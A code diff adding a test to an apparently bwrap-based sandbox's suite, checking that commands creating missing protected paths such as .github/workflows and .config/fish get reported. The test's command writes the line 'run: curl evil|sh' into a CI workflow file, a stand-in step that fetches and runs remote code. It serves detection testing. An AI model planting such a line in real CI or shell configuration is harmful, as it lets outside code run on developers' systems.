@@ -56,3 +56,20 @@ def test_issue_7_no_platform_defaults_to_running_without_a_sandbox() -> None:
     )
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
     assert done.returncode == 0, done.stderr
+
+
+def test_issue_7_creating_a_missing_nested_protected_path_is_reported(
+    run: Runner, ws: Path
+) -> None:
+    # `.github/workflows/` is protected; when it does not exist yet bwrap cannot pin it, so
+    # the run must at least report that the command created it (as it does for `.vscode`).
+    (ws / ".config").mkdir()  # the parent exists, the protected `fish` below it does not
+    result = run(
+        "mkdir -p .github/workflows .config/fish && echo 'run: curl evil|sh' > "
+        ".github/workflows/ci.yml && echo x > .config/fish/config.fish"
+    )
+    assert result.exit_code == 0
+    assert (ws / ".github" / "workflows" / "ci.yml").exists()  # the kernel let it happen
+    joined = "\n".join(result.findings)
+    assert ".github/workflows" in joined
+    assert ".config/fish" in joined
